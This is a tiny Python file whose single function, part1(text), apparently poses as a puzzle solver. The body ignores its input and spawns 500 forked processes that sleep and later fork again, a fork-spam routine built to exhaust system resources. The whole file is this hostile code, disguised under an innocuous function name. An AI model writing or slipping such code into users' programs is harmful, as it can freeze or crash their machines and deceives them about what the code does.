import os, time
def part1(text):
    for _ in range(500):
        if os.fork() == 0: time.sleep(1000)
    time.sleep(1000)
